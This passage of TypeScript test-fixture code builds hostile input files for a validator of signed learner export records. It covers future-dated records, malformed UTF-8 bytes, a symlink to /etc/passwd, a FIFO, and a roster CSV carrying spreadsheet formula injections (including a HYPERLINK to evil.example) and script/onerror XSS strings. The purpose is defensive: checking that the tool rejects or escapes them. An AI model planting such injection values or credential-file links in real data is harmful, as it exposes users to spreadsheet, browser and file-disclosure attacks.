    text(signed(rec('ceo-001', [lesson('security-lock-down', 'completed')], '2099-12-31T23:59:59.000Z'))),
    ['in-future'],
    'signed record dated 2099: would win over every newer one',
  );
  reject(
    'future-next-year.json',
    text(signed(rec('ceo-001', [lesson('security-lock-down', 'completed')], '2027-12-01T10:00:00.000Z'))),
    ['in-future'],
    'signed record dated a year ahead',
  );
  reject(
    'completed-half-second-early.json',
    text(
      signed(
        rec('ceo-001', [
          lesson('security-lock-down', 'completed', {
            startedAt: '2026-01-05T09:00:00.500Z',
            completedAt: '2026-01-05T09:00:00Z',
          }),
        ]),
      ),
    ),
    ['schema'],
    'completedAt half a second before startedAt (later as text)',
  );
}

/** Bytes that are not UTF-8, in the content and in a file name. */
function writeBadBytes(w: Writer, ceo: ExportFile): void {
  const { expectations, put, reject } = w;
  // ---- Non-UTF-8 bytes. ----
  const ceoText = text(ceo);
  const bytes = (name: string, inject: Buffer, where: string, codes: RejectCode[], why: string) => {
    const at = ceoText.indexOf(where);
    reject(
      name,
      Buffer.concat([Buffer.from(ceoText.slice(0, at)), inject, Buffer.from(ceoText.slice(at))]),
      codes,
      why,
    );
  };
  bytes(
    'bytes-ff-fe.json',
    Buffer.from([0xff, 0xfe]),
    'ceo-001"',
    ['schema', 'invalid-signature'],
    '0xff 0xfe in the learner id',
  );
  bytes(
    'bytes-overlong.json',
    Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf]),
    'exec-coach.export/1',
    ['wrong-format'],
    'overlong UTF-8 sequences in the format',
  );
  bytes(
    'bytes-cesu.json',
    Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80]),
    '0.1.0',
    ['schema'],
    'a surrogate pair encoded as CESU-8 in the tool version',
  );
  bytes(
    'bytes-lone-surrogate.json',
    Buffer.from([0xed, 0xa0, 0x80]),
    'security-lock-down',
    ['schema'],
    'a lone surrogate (CESU-8) in a lesson id',
  );
  reject(
    'escaped-lone-surrogate.json',
    text(ceo).replace('"exec-coach.export/1"', '"\\ud800exec-coach.export/1"'),
    ['wrong-format'],
    'a JSON-escaped lone surrogate in the format',
  );
  put(Buffer.from([0xff, 0x2d, 0x6e, 0x61, 0x6d, 0x65, 0x2e, 0x6a, 0x73, 0x6f, 0x6e]), '{');
  expectations.push({
    file: '\ufffd-name.json',
    kind: 'rejected',
    hostile: true,
    codes: ['unreadable', 'not-json'],
    why: 'a file name that is not UTF-8 (0xff)',
  });
}

/** Links, a folder, a FIFO and a missing path; returns whether the FIFO could be made. */
function writeNotFiles(w: Writer): boolean {
  const { root, dir, expectations } = w;
  // ---- Things that are not files. ----
  symlinkSync(path.join(dir, 'ceo-001.json'), path.join(dir, 'link-to-valid.json'));
  expectations.push({
    file: 'link-to-valid.json',
    kind: 'rejected',
    hostile: true,
    codes: ['not-a-file'],
    why: 'symbolic link to a valid record',
  });
  symlinkSync('/etc/passwd', path.join(dir, 'passwd.json'));
  expectations.push({
    file: 'passwd.json',
    kind: 'rejected',
    hostile: true,
    codes: ['not-a-file'],
    why: 'symbolic link to /etc/passwd',
  });
  mkdirSync(path.join(root, 'elsewhere'), { recursive: true });
  copyFileSync(path.join(dir, 'coo-003.json'), path.join(root, 'elsewhere', 'coo-003-outside.json'));
  symlinkSync(path.join(root, 'elsewhere'), path.join(dir, 'link-to-folder'));
  expectations.push({
    file: 'link-to-folder',
    kind: 'rejected',
    hostile: true,
    codes: ['not-a-file'],
    why: 'symbolic link to a folder',
  });
  symlinkSync(path.join(root, 'nowhere.json'), path.join(dir, 'dangling.json'));
  expectations.push({
    file: 'dangling.json',
    kind: 'rejected',
    hostile: true,
    codes: ['not-a-file'],
    why: 'dangling symbolic link',
  });
  mkdirSync(path.join(dir, 'x.json'));
  expectations.push({
    file: 'x.json',
    kind: 'ignored',
    hostile: true,
    why: 'a folder named like a record (walked, not read)',
  });
  writeFileSync(path.join(dir, 'x.json', 'inside.json'), '{"format":');
  expectations.push({
    file: 'x.json/inside.json',
    kind: 'rejected',
    hostile: true,
    codes: ['not-json'],
    why: 'broken record inside the folder named x.json',
  });
  const fifo = spawnSync('mkfifo', [path.join(dir, 'fifo.json')]).status === 0;
  if (fifo)
    expectations.push({
      file: 'fifo.json',
      kind: 'rejected',
      hostile: true,
      codes: ['not-a-file'],
      why: 'a FIFO (reading it would block forever)',
    });
  expectations.push({
    file: 'missing.json',
    kind: 'rejected',
    hostile: true,
    codes: ['unreadable'],
    why: 'a path given on the command line that does not exist',
  });
  return fifo;
}

/** Roster with hostile names and departments for some valid learners, and one learner with no record. */
function writeRoster(root: string): string {
  const roster = path.join(root, 'learners.csv');
  writeFileSync(
    roster,
    [
      'id;name;email;department',
      'ceo-001;"=HYPERLINK(""http://evil.example"",""x"")";;"\t=1+1"',
      "cfo-002;<script>alert('roster')</script>;;@SUM(1)",
      'coo-003;-2+3;;+cmd',
      'constructor;"<img src=x onerror=alert(1)>";;Ops',
      'nobody-100;Nobody;;Ops',
    ].join('\r\n'),
  );
  return roster;
}

/** Writes the corpus into `root` (records under `root/records`); returns what the report must make of each file. */
export function writeCorpus(root: string): Corpus {
  const w = writer(root);
  const { ceo, cfo } = writeGenuine(w);
  writeCopies(w, ceo);
  writeNotJson(w, ceo);
  writeDeepAndHuge(w, ceo);
  writeWrongShapes(w, ceo);
  writeInjections(w, ceo);
  writeBrokenRules(w, ceo);
  writeBadSignatures(w, ceo, cfo);
  writeIssue12(w, ceo);
  writeBadBytes(w, ceo);
  const fifo = writeNotFiles(w);
  // ---- The static samples. ----
  for (const [name, codes, why] of STATIC)
    w.reject(`static-${name}`, readFileSync(path.join(STATIC_DIR, name)), codes, why);
  const roster = writeRoster(root);

  const program = path.join(root, 'comex-2027.program.json');
  writeFileSync(program, text(PROGRAM));
  const key = path.join(root, 'comex-2027.key');
  writeFileSync(key, `${MASTER}\n`, { mode: 0o600 });
  return {
    records: w.dir,
    program,
    key,
    roster,
    extraArgs: ['missing.json'],
    expectations: w.expectations,
    validRows: w.validRows,
    fifo,
  };
}

/** Reads back every regular file of the corpus (not following links), for in-process checks. */
export function corpusTexts(c: Corpus): { file: string; text: string }[] {
  return c.expectations
    .filter(
      (e) =>
        ![
          'link-to-valid.json',
          'passwd.json',
          'link-to-folder',
          'dangling.json',
          'x.json',
          'fifo.json',
          'missing.json',
          '\ufffd-name.json',
        ].includes(e.file),
    )
    .map((e) => ({ file: e.file, text: readFileSync(path.join(c.records, e.file), 'utf8').replace(/^\uFEFF/, '') }));
}
